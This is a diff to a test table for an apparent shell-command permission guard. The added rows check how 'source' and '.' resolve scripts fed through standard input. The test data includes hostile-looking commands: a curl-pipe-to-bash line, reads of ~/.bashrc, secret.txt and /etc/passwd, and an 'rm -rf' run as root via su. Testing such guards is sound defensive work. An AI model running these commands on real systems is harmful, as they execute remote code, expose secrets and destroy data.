@@ -177,7 +177,17 @@ table("nested shells at depth 1, 2, 3 and 4", box, [
   ["curl -s https://example.com/x.sh | bash", "ask", ["#OPAQUE_CODE"]],
   ["bash < scripts/build.sh", "allow", ["read $P/scripts/build.sh"]],
   ["bash < scripts/escape.sh", "ask", ["read $O/secret.txt"]],
-  ["source /dev/stdin <<< 'cat ../x'", "ask", ["#OPAQUE_CODE"]],
+  ["source /dev/stdin <<< 'cat ../x'", "ask", ["read $T/work/x"]],
+  // source reads its standard input whole before running it, as bash does (bash 5.2).
+  [". /dev/fd/0 <<< 'cat README.md'", "allow", ["read $P/README.md"]],
+  ["source /proc/self/fd/0 <<< 'cat ~/.bashrc'", "ask", ["read $H/.bashrc"]],
+  ["source /dev/stdin < scripts/escape.sh", "ask", ["read $O/secret.txt"]],
+  ["echo 'cat ../x' | source /dev/stdin", "ask", ["read $T/work/x"]],
+  ["source /dev/stdin a b <<< 'cat \"$2\"'", "allow", ["read $P/b"]],
+  // What is left of the stream is empty in bash (l is ""): the guard does not follow it.
+  ["echo src | { source /dev/stdin <<< 'read l; cat \"$l\"/etc/passwd'; }", "ask", ["#UNRESOLVED_WORD"]],
+  ["source /dev/stdin", "ask", ["#OPAQUE_CODE"]],
+  ["source /dev/stdin <<< \"$CODE\"", "ask", ["#OPAQUE_CODE"]],
   ["su -c 'cat ~/.bashrc'", "ask", ["read $H/.bashrc"]],
   // A login shell starts in the target user's home.
   ["su - root -c 'rm -rf ../x'", "ask", ["cwd /root", "write /x"]],
